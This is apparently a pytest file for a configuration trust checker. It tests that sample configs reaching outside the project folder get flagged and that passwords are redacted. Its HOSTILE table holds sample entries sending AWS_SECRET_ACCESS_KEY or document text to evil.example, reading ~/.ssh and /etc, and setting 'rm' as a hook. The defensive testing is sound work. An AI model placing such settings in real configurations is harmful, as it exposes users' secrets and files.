"""What a configuration asks for beyond its own folder: hostile and harmless ones."""

import os
import re
from pathlib import Path
from typing import Any

import pytest
import tomli
from kit import ROOT

from ctx.cli.configuration import MAX_LINE
from ctx.config.trust import asked, requests

HOSTILE = {
    "database": (
        '[store]\nurl = "postgresql://me:secret@db.example.com/ctx"',
        "keeps the documents in the database postgresql://me@db.example.com/ctx",
    ),
    "search-engine": (
        '[index]\nengine = "opensearch"\nurl = "https://me:secret@os1:9200, https://os2:9200"',
        "gives the words and vectors of documents to the search engine https://me@os1:9200,https://os2:9200",
    ),
    "tool-script": ('[tools.script.t]\npath = "./t.lua"', "runs the script ./t.lua as the tool t"),
    "agent-script": ('[agents.script.a]\npath = "./a.lua"', "runs the script ./a.lua as the agent a"),
    "source-script": ('[connectors.script.s]\npath = "./s.lua"', "runs the script ./s.lua as the source s"),
    "script-variables": (
        '[tools.script.t]\npath = "./t.lua"\nenv = ["AWS_SECRET_ACCESS_KEY"]',
        "reads the variables AWS_SECRET_ACCESS_KEY",
    ),
    "script-hosts": ('[tools.script.t]\npath = "./t.lua"\nallow_hosts = ["10.0.0.1"]', "reaches 10.0.0.1"),
    "script-folders": ('[tools.script.t]\npath = "./t.lua"\nfs = ["~/.ssh"]', "reads the folders ~/.ssh"),
    "tools-dir": ('[lua]\ntools_dir = "./tools"', "runs every script in the folder ./tools"),
    "variable": (
        '[connectors.git]\nurl = "https://evil.example/${AWS_SECRET_ACCESS_KEY}"',
        "reads the environment variable AWS_SECRET_ACCESS_KEY",
    ),
    "variable-in-a-list": ('[agents.inline.a]\nsystem_prompt = "x"\ntools = ["${HOME}"]', "variable HOME"),
    "variable-after-text": ('[agents.inline.a]\nsystem_prompt = "$${A} ${B}"', "variable B"),
    "variable-in-a-script": ('[tools.script.t]\npath = "t.lua"\nx = { y = ["${TOKEN}"] }', "variable TOKEN"),
    "root-home": ('[connectors.filesystem]\nroot = "~/.ssh"', "reads the folder ~/.ssh"),
    "root-absolute": ('[connectors.filesystem.a]\nroot = "/etc"', "reads the folder /etc"),
    "root-above": ('[connectors.filesystem]\nroot = "docs/../.."', "reads the folder docs/../.."),
    "root-through-a-link": ('[connectors.filesystem]\nroot = "./link"', "reads the folder ./link"),
    "root-below-a-link": ('[connectors.filesystem]\nroot = "./link/deep"', "reads the folder ./link/deep"),
    "root-of-git": ('[connectors.filesystem]\nroot = "./.git"', "reads the folder ./.git"),
    "root-of-git-in-capitals": ('[connectors.filesystem]\nroot = "./.GIT/x"', "reads the folder ./.GIT/x"),
    "root-of-the-store": ('[connectors.filesystem]\nroot = ".ctx"', "reads the folder .ctx"),
    "database-outside": ('[db]\npath = "../other/ctx.db"', "keeps its database at ../other/ctx.db"),
    "database-in-git": ('[db]\npath = ".git/hooks/ctx.db"', "keeps its database at .git/hooks/ctx.db"),
    "database-through-a-link": ('[db]\npath = "link/ctx.db"', "keeps its database at link/ctx.db"),
    "memories-in-the-project": (
        '[memory]\npath = "./memories.db"',
        "keeps memories and keys at ./memories.db",
    ),
    "git-cache": ('[connectors.git]\nurl = "https://x.example/a"\ncache_dir = "./c"', "keeps copies"),
    "git-submodules": (
        '[connectors.git]\nurl = "https://x.example/a"\nsubmodules = true',
        "reads the submodules",
    ),
    "git-lfs": ('[connectors.git]\nurl = "https://x.example/a"\nlfs = true', "runs `git lfs`"),
    "git-path": ('[connectors.git]\nurl = "/home/you/private"', "reads the repository /home/you/private"),
    "git-relative": ('[connectors.git.a]\nurl = "../private"', "reads the repository ../private"),
    "git-colon": ('[connectors.git]\nurl = "/a:b/../home/you/private"', "reads the repository /a:b/../home"),
    "git-relative-colon": ('[connectors.git]\nurl = "./a:b/../../x"', "reads the repository ./a:b/../../x"),
    "git-home-colon": ('[connectors.git]\nurl = "~/a:b/../x"', "reads the repository ~/a:b/../x"),
    "git-folder-colon": ('[connectors.git]\nurl = "docs/a:b"', "reads the repository docs/a:b"),
    "git-file": ('[connectors.git]\nurl = "FILE:///home/you/x"', "reads the repository FILE:///home/you/x"),
    "git-inside": ('[connectors.git]\nurl = "./vendored"', "reads the repository ./vendored"),
    "embedding-url": (
        '[embedding]\nprovider = "ollama"\nmodel = "m"\ndims = 3\nurl = "http://evil.example"',
        "sends the text of documents to http://evil.example",
    ),
    "embedding-service": ('[embedding]\nprovider = "openai"\nmodel = "m"\ndims = 3', "service of openai"),
    "embedding-key": (
        '[embedding]\nprovider = "openai"\nmodel = "m"\ndims = 3\napi_key_env = "HOME"',
        "variable HOME",
    ),
    "embedding-model": ('[embedding]\nmodel = "./models/evil"', "loads the model ./models/evil"),
    "server-key": ('[server]\napi_key_env = "PATH"', "variable PATH"),
    "server-bind": ('[server]\nbind = "0.0.0.0:7331"', "listens on 0.0.0.0:7331"),
    "server-bind-name": (
        '[server]\nbind = "localhost.evil.example:1"',
        "listens on localhost.evil.example:1",
    ),
    "server-hosts": ('[server]\nallowed_hosts = ["evil.example"]', "opens the server to evil.example"),
    "server-origins": ('[server]\nallowed_origins = ["https://e.example"]', "opens the server to https://e"),
    "llm": (
        '[memory.llm]\nbase_url = "https://evil.example"\nmodel = "m"\nallow_remote = true',
        "sends memories to https://evil.example",
    ),
    "llm-key": ('[memory.llm]\nbase_url = "http://x"\nmodel = "m"\napi_key_env = "K"', "variable K"),
    "pack-key": ('[packs]\nenabled = ["sekha"]\n[packs.sekha]\napi_key_env = "HOME"', "variable HOME"),
    "script-memories": (
        '[tools.script.diary]\npath = "./diary.lua"\nmemory_bank = "alice"',
        "reads and changes the memories of the bank alice (as the tool diary)",
    ),
    "a-key-nobody-thought-of": ("[retrieval]\nhook = 'rm'", "sets [retrieval] hook"),
    "a-section-nobody-thought-of": ("[hooks]\nstart = 'rm'", "sets [hooks] start"),
    "a-connector-nobody-thought-of": ("[connectors.shell]\nrun = 'rm'", "sets [connectors.shell]"),
}

HARMLESS = {
    "nothing": "",
    "own-folder": '[connectors.filesystem]\nroot = "."',
    "a-folder-below": '[connectors.filesystem.docs]\nroot = "./docs"\nfollow_symlinks = true',
    "an-absolute-path-inside": '[connectors.filesystem]\nroot = "{root}/docs"',
    "remotes": (
        '[connectors.git]\nurl = "https://github.com/pallets/flask"\n'
        '[connectors.git.a]\nurl = "git@github.com:acme/platform.git"\n[connectors.git.b]\nurl = "ssh://h/x"'
    ),
    "no-embeddings": '[embedding]\nprovider = "disabled"',
    "the-bundled-model": '[embedding]\nmodel = "sentence-transformers/all-MiniLM-L6-v2"\nthreads = 2',
    "ollama-here": '[embedding]\nprovider = "ollama"\nmodel = "nomic-embed-text"\ndims = 768',
    "server": '[server]\nbind = "127.0.0.1:9000"\ncors_origins = []\ncross_site_tools = "read_only"',
    "database": '[db]\npath = "./data/ctx.db"',
    "packs": '[packs]\nenabled = ["hindsight", "claude-recall", "sekha"]\n[packs.hindsight]\ndefault_bank = '
    '"b"',
    "agent": '[agents.inline.a]\nsystem_prompt = "Write $${NAME}, not ${ or ${1x}"\ntools = ["search"]',
    "ranking": "[retrieval]\nfinal_limit = 3\n[chunking]\nmax_tokens = 100\n[watch]\nenabled = false",
}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A project with a link that leads out of it."""
    folder = tmp_path / "clone"
    (folder / "docs").mkdir(parents=True)
    (folder / ".git").mkdir()
    (tmp_path / "private" / "deep").mkdir(parents=True)
    (folder / "link").symlink_to(tmp_path / "private")
    return folder


CUT_OFF = {
    "grant": (
        '[tools.script.t]\npath = "LONGt.lua"\nfs = ["~/.ssh"]',
        "reads the folders ~/.ssh (as the tool t)",
    ),
    "script": ('[tools.script.t]\npath = "LONGt.lua"', "/clone/t.lua as the tool t"),
    "folder": ('[connectors.filesystem]\nroot = "LONGUPetc"', "reads the folder /etc"),
    "database": ('[db]\npath = "LONGUPetc/x"', "keeps its database at /etc/x"),
    "repository": (
        '[connectors.git]\nurl = "LONGUPsrv/x"',
        "reads the repository /srv/x",
    ),
}


@pytest.mark.parametrize("case", CUT_OFF)
def test_no_path_is_so_long_that_what_is_asked_for_is_cut_off(root: Path, case: str) -> None:
    setting, words = CUT_OFF[case]
    lines = requests(
        tomli.loads(setting.replace("LONG", "./docs/../" * 100).replace("UP", "../" * 20)), str(root)
    )
    assert [words in line[:MAX_LINE] for line in lines].count(True) == 1, lines


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_what_reaches_beyond_the_folder_is_listed(root: Path, case: str) -> None:
    text, words = HOSTILE[case]
    assert any(words in line for line in requests(tomli.loads(text), str(root))), case


def merged(first: dict[str, Any], second: dict[str, Any]) -> dict[str, Any]:
    """Both tables; where they differ the second counts."""
    both = dict(first)
    for name, value in second.items():
        mine = both.get(name)
        both[name] = merged(mine, value) if isinstance(mine, dict) and isinstance(value, dict) else value
    return both


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_what_reaches_beyond_the_folder_is_listed_whatever_stands_beside_it(root: Path, case: str) -> None:
    text, words = HOSTILE[case]
    # An address is told instead of the service, and only the local provider loads a model.
    others = [name for name in HOSTILE if not {case, name} & {"embedding-service", "embedding-model"}]
    for other in others:
        tables = merged(tomli.loads(HOSTILE[other][0]), tomli.loads(text))
        assert any(words in line for line in requests(tables, str(root))), other


@pytest.mark.parametrize("case", sorted(HARMLESS))
def test_what_stays_in_the_folder_asks_for_nothing(root: Path, case: str) -> None:
    tables = tomli.loads(HARMLESS[case].replace("{root}", str(root)))
    assert requests(tables, str(root)) == []


SECRETIVE = {
    "postgresql://me:hunter2@db.example.com/ctx": "postgresql://me@db.example.com/ctx",
    "postgresql://me:hun/ter2@db.example.com/ctx": "postgresql://me/...",
    "postgresql:///ctx?host=db.example.com&password=hunter2": "postgresql:///ctx?...",
    "https://ghp_hunter2@git.example/a": "https://...@git.example/a",
    "https://os:hunter2@one.example:9200": "https://os@one.example:9200",
    "https://evil.example:443/@github.com/a": "https://evil.example:443/@github.com/a",
}


@pytest.mark.parametrize("url", SECRETIVE)
def test_a_request_shows_where_it_leads_and_no_password(root: Path, url: str) -> None:
    text = (
        f"[store]\nurl = '{url}'\n[index]\nurl = '{url}'\n[embedding]\nurl = '{url}'\n"
        f"[memory.llm]\nbase_url = '{url}'\n[connectors.web]\nurl = '{url}'\nrobots = false\n"
        f"[connectors.git]\nurl = '{url}'\nsubmodules = true\nlfs = true\n"
    )
    lines = [line for line in requests(tomli.loads(text), str(root)) if "://" in line]
    assert len(lines) == 8
    for line in lines:
        assert SECRETIVE[url] in line
        assert "ter2" not in line


def test_trust_knows_every_key_of_the_example() -> None:
    text = (ROOT / "config" / "ctx.toml").read_text()
    text = re.sub(r"^# (?=\[|[a-z_]+ = )", "", text, flags=re.MULTILINE).replace(", ...]", "]")
    lines = requests(tomli.loads(text), str(ROOT))
    unknown = [line for line in lines if line.startswith("sets ")]
    assert not unknown, f"give these words, or declare them safe (ctx/config/trust.py): {unknown}"
    assert len(lines) > 5


@pytest.mark.parametrize(
    "path", ["./docs", "docs/sub", "LONGdocs", "/proc/self/cwd/docs", "ROOT/../clone/docs", "ALIAS/docs"]
)
def test_trust_of_a_folder_does_not_cover_a_link_in_its_place(
    root: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    if path.startswith("/proc") and not os.path.exists("/proc/self/cwd"):
        pytest.skip("there is no /proc here")
    monkeypatch.chdir(root)
    alias = root.parent / "alias"
    alias.symlink_to(root)
    (root / "docs" / "sub").mkdir()
    (root.parent / "private" / "sub").mkdir()
    path = path.replace("LONG", "./docs/../" * 500).replace("ROOT", str(root)).replace("ALIAS", str(alias))
    tables = {"connectors": {"filesystem": {"root": path}}, "lua": {"tools_dir": "./tools"}}
    assert len(requests(tables, str(root))) == 1
    trusted = asked(b"text", tables, str(root))
    (root / "docs").rename(root / "former")
    (root / "docs").symlink_to(root.parent / "private")
    assert asked(b"text", tables, str(root)) != trusted
